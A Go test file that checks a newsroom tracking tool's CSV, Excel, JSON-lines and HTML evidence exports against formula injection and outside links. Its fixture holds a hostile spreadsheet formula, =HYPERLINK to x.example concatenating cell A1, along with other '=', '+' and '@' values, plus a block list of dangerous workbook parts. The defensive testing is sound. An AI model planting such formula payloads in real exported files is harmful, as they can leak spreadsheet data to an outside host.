package main

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"html"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"onset/newsroom"
	"onset/store"
	"onset/tracker"
	"onset/tracker/archive"
)

// hostile is a sentence that a spreadsheet program would run, and longer than
// any table shows.
const hostile = `=HYPERLINK("http://x.example/"&A1;"the harbour will be shut") – ` +
	"and so on for longer than a terminal is wide, with “quotes”, a comma, and ё, so that whoever opens the file sees the whole of it"

// exported is an archive with one article of hostile text and one candidate.
func exported(t *testing.T) (dir string) {
	t.Helper()
	dir = t.TempDir()
	rules := "speakers:\n  - {id: mayor, name: Mayor Stone, aliases: [Mayor Stone]}\nsources:\n  - {id: herald, name: \"=The Herald\"}\nnarratives:\n" +
		"  - id: port\n    title: The port\n    talking_points:\n      - {id: closed, title: Closed, match: harbour}\n"
	write(t, filepath.Join(dir, "narratives.yaml"), rules)
	line, err := json.Marshal(map[string]string{"url": "https://herald.example/a", "title": "@SUM(1)", "published": "2025-01-10", "source": "herald",
		"text": hostile + ".\nMayor Stone said on January 9 that the harbour will be shut."})
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(dir, "history.jsonl"), string(line)+"\n")
	runIn(t, dir, "import", filepath.Join(dir, "history.jsonl"))
	s, err := store.Open(t.Context(), filepath.Join(dir, "onset.db"), store.Options{Decisions: newsroom.Decisions{}})
	if err != nil {
		t.Fatal(err)
	}
	row, err := json.Marshal(map[string]any{"id": "c1", "label": hostile, "phrases": []string{"+1"}, "language": "en", "first_published": "2025-01-10",
		"detected_at": "2025-01-10", "last_mention": "2025-01-10", "score": 2.346, "p_value": 0.000012, "origins": 3, "speakers": []map[string]string{{"text": strings.Repeat("the mayor ", 9)}},
		"examples": []map[string]string{{"url": "https://herald.example/a", "published_at": "2025-01-10", "source": "herald", "text": hostile}}})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Discovered(t.Context(), "discovery", archive.Remembered{}, []archive.CandidateRow{{ID: "c1", Status: "emerging", Row: row}}, nil); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	return dir
}

// runIn runs a command on the archive of a folder and returns what it printed.
func runIn(t *testing.T, dir string, args ...string) string {
	t.Helper()
	var out, talk bytes.Buffer
	root := []string{"--config", filepath.Join(dir, "narratives.yaml"), "--db", filepath.Join(dir, "onset.db")}
	if code := run(t.Context(), append(root, args...), strings.NewReader(""), &out, &talk); code != exitFine {
		t.Fatalf("onset %v ended with %d: %s", args, code, talk.String())
	}
	return out.String()
}

// lists are the four tables that people take elsewhere, and a column that holds
// what they must not lose.
var lists = []struct {
	args []string
	days []string // columns with days
	text string   // column that holds the hostile sentence; "" none
}{
	{[]string{"timeline", "--all"}, []string{"published", "from", "to"}, "evidence"},
	{[]string{"mentions"}, []string{"published"}, "sentence"},
	{[]string{"firsts", "closed"}, []string{"first"}, ""},
	{[]string{"emerging", "--all"}, []string{"found", "first published", "last mention"}, "statement"}, // and numbers with fractions
}

func TestEveryListIsACSVOfItsOwnRules(t *testing.T) {
	dir := exported(t)
	for _, l := range lists {
		plain := runIn(t, dir, append(l.args, "--format", "csv")...)
		rows := readCSV(t, plain, ',')
		if n := strings.Count(plain, "\r"); n != 0 {
			t.Errorf("%v: %d carriage returns in a plain CSV", l.args, n)
		}
		column := slices.Index(rows[0], l.text)
		if l.text != "" && !slices.ContainsFunc(rows, func(r []string) bool { return strings.HasPrefix(r[column], strings.TrimSuffix(hostile, ".")) }) {
			t.Errorf("%v: the sentence is not whole in %s:\n%s", l.args, l.text, plain)
		}
		for _, separator := range []string{",", ";", "\t"} {
			text := runIn(t, dir, append(l.args, "--format", "csv", "--excel="+separator)...)
			body, marked := strings.CutPrefix(text, "\ufeff")
			excel := readCSV(t, body, rune(separator[0]))
			if !marked || len(excel) != len(rows) {
				t.Fatalf("%v: mark %v, %d rows of %d", l.args, marked, len(excel), len(rows))
			}
			for i, row := range excel {
				for j, cell := range row {
					if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
						t.Errorf("%v: a program may run %q", l.args, cell)
					}
					if cell != rows[i][j] && cell != "'"+rows[i][j] {
						t.Errorf("%v: %q became %q", l.args, rows[i][j], cell)
					}
				}
			}
		}
	}
}

// readCSV reads what it is strictly: each row as wide as the first.
func readCSV(t *testing.T, text string, comma rune) [][]string {
	t.Helper()
	in := csv.NewReader(strings.NewReader(text))
	in.Comma = comma
	rows, err := in.ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("%d rows: %v\n%s", len(rows), err, text)
	}
	return rows
}

// A workbook holds what the CSV of the same list does, days as days and numbers
// as numbers; nothing in it is a formula, a link or leads out of it.
func TestEveryListIsAWorkbookOfItsOwnRules(t *testing.T) {
	dir := exported(t)
	for _, l := range lists {
		name := filepath.Join(dir, l.args[0]+".xlsx")
		runIn(t, dir, append(l.args, "--format", "xlsx", "--out", name)...)
		want := readCSV(t, runIn(t, dir, append(l.args, "--format", "csv")...), ',')
		f, err := excelize.OpenFile(name)
		if err != nil {
			t.Fatalf("%v: %v", l.args, err)
		}
		rows, err := f.GetRows("Onset")
		if err != nil || len(rows) != len(want) {
			t.Fatalf("%v: %d rows of %d: %v", l.args, len(rows), len(want), err)
		}
		for i, row := range want {
			for j, value := range row {
				cell, err := excelize.CoordinatesToCellName(j+1, i+1)
				if err != nil {
					t.Fatal(err)
				}
				got, err := f.GetCellValue("Onset", cell)
				formula, err2 := f.GetCellFormula("Onset", cell)
				linked, _, err3 := f.GetCellHyperLink("Onset", cell)
				if got != value && !sameNumber(got, value) || formula != "" || linked || err != nil || err2 != nil || err3 != nil {
					t.Errorf("%v: %s is %q, want %q; formula %q, link %v (%v %v %v)", l.args, cell, got, value, formula, linked, err, err2, err3)
				}
				if i > 0 && slices.Contains(l.days, want[0][j]) && value != "" {
					isDay(t, f, cell, value)
				}
			}
		}
		if err := f.Close(); err != nil {
			t.Error(err)
		}
		leadsNowhere(t, name)
	}
}

func sameNumber(a, b string) bool {
	x, err := strconv.ParseFloat(a, 64)
	y, err2 := strconv.ParseFloat(b, 64)
	return err == nil && err2 == nil && x == y
}

// isDay checks that a cell counts as a day.
func isDay(t *testing.T, f *excelize.File, cell, value string) {
	t.Helper()
	raw, err := f.GetCellValue("Onset", cell, excelize.Options{RawCellValue: true})
	day, bad := time.Parse(time.DateOnly, value)
	since := int(day.Sub(time.Date(1899, 12, 30, 0, 0, 0, 0, time.UTC)).Hours() / 24)
	var number int
	if err != nil || bad != nil || json.Unmarshal([]byte(raw), &number) != nil || number != since {
		t.Errorf("%s is %q and holds %q, want the number of the day %d (%v %v)", cell, value, raw, since, err, bad)
	}
}

// leadsNowhere checks the parts of a workbook.
func leadsNowhere(t *testing.T, name string) {
	t.Helper()
	z, err := zip.OpenReader(name)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		for _, bad := range []string{`TargetMode="External"`, "<f>", "<hyperlink", "vbaProject", "<ddeLink"} {
			if bytes.Contains(body, []byte(bad)) {
				t.Errorf("%s: %s holds %s", name, part.Name, bad)
			}
		}
	}
}

// Each line is the same object as in the array of --format json.
func TestEveryListIsJSONLines(t *testing.T) {
	dir := exported(t)
	for _, l := range lists {
		var whole []json.RawMessage
		if err := json.Unmarshal([]byte(runIn(t, dir, append(l.args, "--format", "json")...)), &whole); err != nil {
			t.Fatalf("%v: %v", l.args, err)
		}
		lines := strings.Split(strings.TrimSuffix(runIn(t, dir, append(l.args, "--format", "jsonl")...), "\n"), "\n")
		if len(lines) != len(whole) || len(lines) == 0 {
			t.Fatalf("%v: %d lines of %d objects", l.args, len(lines), len(whole))
		}
		for i, line := range lines {
			var a, b bytes.Buffer
			if json.Compact(&a, whole[i]) != nil || json.Compact(&b, []byte(line)) != nil || a.String() != b.String() {
				t.Errorf("%v: line %d is %s, want %s", l.args, i, line, a.String())
			}
		}
	}
}

func TestOutKeepsWhatWasThereUntilTheNewIsWhole(t *testing.T) {
	dir := exported(t)
	name := filepath.Join(dir, "timeline.csv")
	write(t, name, "the old one")
	var talk bytes.Buffer
	if code := run(t.Context(), []string{"--db", filepath.Join(dir, "nothing.db"), "timeline", "--format", "csv", "--out", name}, strings.NewReader(""), &talk, &talk); code == exitFine {
		t.Fatal("a database that is not there was exported")
	}
	if text, err := os.ReadFile(name); err != nil || string(text) != "the old one" {
		t.Errorf("a failed export left %q: %v", text, err)
	}
}

var (
	storedText = regexp.MustCompile(`(?s)<div class="text">(.*?)</div>`)
	storedSum  = regexp.MustCompile(`<code>([0-9a-f]{64})</code>`)
	markUp     = regexp.MustCompile(`</?mark>`)
	reference  = regexp.MustCompile(`(?i)\s(?:src|href|srcset|poster|action|background|data)\s*=\s*"([^"]*)"|url\(([^)]*)\)|@import`)
)

// A page of evidence holds all that it speaks of: the text whose SHA-256 it
// gives, when that was fetched, the rule and the sentence; and it asks nothing
// of the network but where the reader follows the link to the article.
func TestEvidenceStandsAlone(t *testing.T) {
	dir := exported(t)
	var mentions []tracker.MentionRow
	if err := json.Unmarshal([]byte(runIn(t, dir, "mentions", "--format", "json")), &mentions); err != nil || len(mentions) == 0 {
		t.Fatalf("%d mentions: %v", len(mentions), err)
	}
	var events []tracker.Event
	if err := json.Unmarshal([]byte(runIn(t, dir, "timeline", "--kind", "first_said", "--format", "json")), &events); err != nil || len(events) == 0 {
		t.Fatalf("%d events: %v", len(events), err)
	}
	name := filepath.Join(dir, "proof.html")
	runIn(t, dir, "evidence", mentions[0].ID, mentions[1].ID, events[0].ID, "--out", name)
	raw, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	page := string(raw)
	texts, sums := storedText.FindAllStringSubmatch(page, -1), storedSum.FindAllStringSubmatch(page, -1)
	if len(texts) != 3 || len(sums) != 3 {
		t.Fatalf("%d texts and %d sums for three proofs", len(texts), len(sums))
	}
	for i := range texts {
		sum := sha256.Sum256([]byte(html.UnescapeString(markUp.ReplaceAllString(texts[i][1], ""))))
		if got := hex.EncodeToString(sum[:]); got != sums[i][1] {
			t.Errorf("proof %d: the text has the SHA-256 %s, the page says %s", i, got, sums[i][1])
		}
	}
	for _, m := range reference.FindAllStringSubmatch(page, -1) {
		if m[1] != "https://herald.example/a" {
			t.Errorf("the page leads to %q", m[0])
		}
	}
	plain := html.UnescapeString(markUp.ReplaceAllString(page, ""))
	for _, want := range []string{hostile, mentions[0].SeenAt.UTC().Format(time.RFC3339), "<dd>harbour</dd>", mentions[0].Rule.Hash[:8], events[0].ID, "Mayor Stone", "said 9 Jan"} {
		if !strings.Contains(plain, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	if strings.Contains(page, "<script") || !strings.HasPrefix(page, "<!doctype html>") {
		t.Error("it is no page, or one with a script")
	}
}
